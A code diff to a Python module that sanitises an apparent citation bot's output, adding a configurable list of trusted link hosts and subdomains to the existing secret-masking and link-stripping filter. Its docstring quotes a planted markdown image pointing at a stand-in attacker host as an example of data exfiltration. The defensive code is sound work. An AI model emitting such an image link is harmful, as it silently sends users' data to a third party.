@@ -81,13 +81,19 @@ def mask_secrets(text: str) -> str:
     return _URL_OR_TOKEN.sub(lambda m: MASK if not m.group(1) and _high_entropy(m.group(0)) else m.group(0), text)
 
 
-def limit_links(text: str, allowed_urls: list[str]) -> str:
+def limit_links(text: str, allowed_urls: list[str], trusted: tuple[str, ...] = ()) -> str:
     """Markdown links and images become their label; bare URLs survive only when they point at a
-    host we cite, so a planted `![x](https://evil.example/?q=…)` cannot carry data out."""
+    host we cite or at a trusted host or its subdomains (CITEBOT_LINK_HOSTS), so a planted
+    `![x](https://evil.example/?q=…)` cannot carry data out."""
     hosts = {urlparse(url).netloc for url in allowed_urls if url}
+
+    def shown(url: str) -> bool:
+        parsed = urlparse(url)
+        host = (parsed.hostname or "").lower()
+        return parsed.netloc in hosts or any(host == name or host.endswith("." + name) for name in trusted)
     text = link_labels(text)
-    return _URL.sub(lambda m: m.group(0) if urlparse(m.group(0)).netloc in hosts else "[link removed]", text)
+    return _URL.sub(lambda m: m.group(0) if shown(m.group(0)) else "[link removed]", text)
 
 
-def clean_for_user(text: str, allowed_urls: list[str]) -> str:
-    return limit_links(mask_secrets(_CITATION_MARK.sub("", text)), allowed_urls)
+def clean_for_user(text: str, allowed_urls: list[str], trusted: tuple[str, ...] = ()) -> str:
+    return limit_links(mask_secrets(_CITATION_MARK.sub("", text)), allowed_urls, trusted)
